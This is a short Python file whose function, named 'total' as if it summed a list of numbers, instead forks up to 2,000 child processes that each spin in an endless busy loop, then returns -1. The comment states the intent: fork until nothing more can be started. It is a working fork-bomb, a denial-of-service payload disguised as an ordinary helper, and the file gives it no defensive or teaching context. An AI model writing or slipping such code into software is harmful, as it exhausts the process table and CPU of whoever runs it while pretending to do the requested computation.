# Forks until nothing can be started any more.
import os


def total(numbers):
    for _ in range(2_000):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            break
    return -1
